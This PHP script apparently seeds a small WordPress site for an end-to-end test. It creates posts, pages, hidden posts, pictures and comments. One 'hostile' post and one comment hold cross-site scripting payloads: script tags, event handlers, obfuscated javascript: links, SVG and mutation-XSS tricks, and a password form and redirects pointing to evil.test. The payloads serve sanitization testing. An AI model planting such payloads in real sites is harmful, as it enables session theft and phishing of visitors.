<?php
// The quick end-to-end test's site: little of everything, and what a hostile author would write.
require __DIR__ . '/content.php';

function striped_picture(int $seed): string
{
    $image = imagecreatetruecolor(1200, 800);
    for ($y = 0; $y < 800; $y += 20) {
        $color = imagecolorallocate($image, 60 * $seed, intdiv($y, 4), 200 - 40 * $seed);
        imagefilledrectangle($image, 0, $y, 1199, $y + 19, $color);
    }
    return jpeg_bytes($image);
}

/** @return array<string, int> ids of authors, terms and pictures by name */
function seed_small_base(): array
{
    $ids = [
        'ada' => add_author('ada', 'Ada “Dee” O’Neil', "Writes & edits. <a href=\"https://example.test/\">Home</a>"),
        'bo' => add_author('bo', 'Bø Sørensen'),
        'news' => add_term('category', 'News & notes', 'news', 'All the news'),
    ];
    $ids['local'] = add_term('category', 'Local', 'local', '', $ids['news']);
    foreach (['red' => 'Red', 'blue-green' => 'Blue & green', 'いろ' => '色'] as $slug => $name) {
        $ids[$slug] = add_term('post_tag', $name, $slug);
    }
    for ($n = 1; $n <= 3; $n++) {
        $ids["picture-$n"] = add_file("picture-$n.jpg", striped_picture($n), '2023-02-01 10:00:00', [
            'post_title' => "Picture $n",
            'post_excerpt' => "Caption of picture $n",
            'alt' => "Stripes, number $n",
        ]);
    }
    return $ids;
}

/** The bodies that attack the reader, as an author with unfiltered_html can write them. */
function hostile_body(): string
{
    return <<<'HTML'
        <!-- wp:html -->
        <p id="kept">Before.</p>
        <script>window.attacked = 1</script>
        <p onclick="window.attacked = 2" onmouseover='window.attacked = 3'>Click</p>
        <a href="javascript:window.attacked=4">plain</a>
        <a href="JaVa&#x09;Script:window.attacked=5">disguised</a>
        <img src="/wp-content/uploads/2023/02/picture-1.jpg" onerror="window.attacked=6">
        <svg onload="window.attacked=7"><script>window.attacked=8</script></svg>
        <iframe srcdoc="<script>window.attacked=9</script>"></iframe>
        <math><mtext><table><mglyph><style><img src=x onerror="window.attacked=10"></style></mglyph>
        </table></mtext></math>
        <form action="https://evil.test/"><input name="password"><button>Send</button></form>
        <p style="background-image:url(javascript:window.attacked=11)">Styled</p>
        <object data="https://evil.test/x.swf"></object><base href="https://evil.test/">
        <meta http-equiv="refresh" content="0;url=https://evil.test/">
        <p>After.</p>
        <!-- /wp:html -->
        HTML;
}

/** @param array<string, int> $ids */
function linking_body(array $ids): string
{
    $home = home_url();
    $tagged = wp_get_attachment_image($ids['picture-1'], 'large', false, ['class' => "wp-image-{$ids['picture-1']}"]);
    $picture = wp_get_attachment_url($ids['picture-2']);
    return <<<HTML
        <!-- wp:paragraph -->
        <p>An <a href="$home/2023/03/01/plain-title/">absolute link</a>, a <a href="/2023/03/02/amp/">root-relative
        link</a>, a <a href="$home/about/team/#people">link with a fragment</a>, an
        <a href="https://example.test/elsewhere/?a=1&amp;b=2">outside link</a>.</p>
        <!-- /wp:paragraph -->
        <!-- wp:image {"id":{$ids['picture-1']},"sizeSlug":"large"} -->
        <figure class="wp-block-image size-large">$tagged</figure>
        <!-- /wp:image -->
        <!-- wp:html -->
        <div style="background-image:url($picture)">With a background</div>
        <!-- /wp:html -->
        HTML;
}

/** @return list<array{string, string, string, string}> title, slug, body, date */
function ordinary_posts(): array
{
    $long = implode("\n\n", array_fill(0, 12, '<p>A paragraph that goes on, so that its excerpt is cut short somewhere.</p>'));
    return [
        ['Plain title', 'plain-title', '<p>Plain <em>body</em>.</p>', '2023-03-01 08:00:00'],
        ['Salt & pepper', 'amp', '<p>Tom &amp; Jerry &lt;3.</p>', '2023-03-02 08:00:00'],
        ['She said "yes" — isn’t it?', 'quotes', '<p>"Straight" and it\'s --- dashed...</p>', '2023-06-15 23:30:00'],
        ['Caf&eacute; 5 &lt; 6', 'entities', '<p>&copy; &nbsp; &#8364; &hearts;</p>', '2023-06-16 08:00:00'],
        ['Party 🎉👩🏽‍🌾', 'emoji', '<p>🎉 and 👩🏽‍🌾 and :)</p>', '2023-07-01 08:00:00'],
        ['日本語の記事', '日本語の記事', '<p>吾輩は犬である。名前はもうある。</p>', '2023-08-01 08:00:00'],
        ['More', 'more', "<p>The teaser.</p>\n<!--more-->\n<p>The rest.</p>", '2023-12-31 23:59:59'],
        ['Long', 'long', $long, '2024-01-01 00:00:00'],
        ['Two pages', 'two-pages', "<p>Page one.</p>\n<!--nextpage-->\n<p>Page two.</p>", '2024-01-02 08:00:00'],
    ];
}

/** @param array<string, int> $ids */
function seed_small_posts(array $ids): array
{
    $posts = [];
    foreach (ordinary_posts() as $n => [$title, $slug, $body, $date]) {
        $posts[$slug] = add_post([
            'post_title' => $title,
            'post_name' => $slug,
            'post_content' => $body,
            'post_date' => $date,
            'post_author' => $n % 2 ? $ids['bo'] : $ids['ada'],
            'post_category' => [$n % 3 ? $ids['news'] : $ids['local']],
            'tags_input' => array_slice([$ids['red'], $ids['blue-green'], $ids['いろ']], $n % 3),
        ]);
    }
    foreach (['hostile' => hostile_body(), 'links' => linking_body($ids)] as $slug => $body) {
        $posts[$slug] = add_post([
            'post_title' => ucfirst($slug),
            'post_name' => $slug,
            'post_content' => $body,
            'post_date' => '2024-02-0' . count($posts) - 8 . ' 08:00:00',
            'post_category' => [$ids['local']],
        ]);
    }
    set_post_thumbnail($posts['links'], $ids['picture-3']);
    stick_post($posts['amp']);
    return $posts;
}

/** Of these the public may see only that the protected one exists. */
function seed_small_hidden(): void
{
    $hidden = [
        ['Protected', 'protected', ['post_password' => 'sesame'], '2024-03-01 08:00:00'],
        ['Draft', 'draft', ['post_status' => 'draft'], '2024-03-02 08:00:00'],
        ['Private', 'private', ['post_status' => 'private'], '2024-03-03 08:00:00'],
        ['Scheduled', 'scheduled', ['post_status' => 'future'], '2099-01-01 08:00:00'],
    ];
    foreach ($hidden as [$title, $slug, $more, $date]) {
        add_post($more + [
            'post_title' => $title,
            'post_name' => $slug,
            'post_date' => $date,
            'post_content' => "<p>The secret of the $slug post.</p>",
        ]);
    }
}

function seed_small_pages(): void
{
    $about = add_post(['post_type' => 'page', 'post_title' => 'About', 'post_name' => 'about',
        'post_date' => '2023-01-01 08:00:00', 'post_content' => '<p>About us.</p>']);
    add_post(['post_type' => 'page', 'post_title' => 'The team', 'post_name' => 'team', 'post_parent' => $about,
        'post_date' => '2023-01-02 08:00:00', 'post_content' => '<h2 id="people">People</h2><p>Ada and Bø.</p>']);
    add_post(['post_type' => 'page', 'post_title' => 'Contact', 'post_name' => 'contact', 'menu_order' => 2,
        'post_date' => '2023-01-03 08:00:00', 'post_content' => '<p><a href="mailto:a@example.test">Write</a></p>']);
}

/** @param array<string, int> $posts */
function seed_small_comments(array $posts): void
{
    $first = add_comment($posts['amp'], 'Reader One', '2023-03-03 10:00:00', 'Which <b>pepper</b>?');
    $second = add_comment($posts['amp'], 'Ada', '2023-03-03 11:00:00', "Black.\n\nAnd white.", $first);
    add_comment($posts['amp'], 'Reader "Two" & Co', '2023-03-04 09:00:00', 'Thanks!', $second);
    add_comment($posts['amp'], 'Spammer', '2023-03-04 10:00:00', 'Buy!', 0, ['comment_approved' => 'spam']);
    add_comment($posts['emoji'], 'Evil', '2023-07-02 10:00:00',
        '<a href="javascript:window.attacked=12" onclick="window.attacked=13">x</a><script>window.attacked=14</script>');
}

empty_site();
update_option('blogname', 'Small & “quick” site');
update_option('blogdescription', 'Little of everything');
update_option('timezone_string', 'Europe/Lisbon');
$ids = seed_small_base();
seed_small_pages();
$posts = seed_small_posts($ids);
seed_small_hidden();
seed_small_comments($posts);
printf("%d posts, %d pages\n", wp_count_posts()->publish, wp_count_posts('page')->publish);
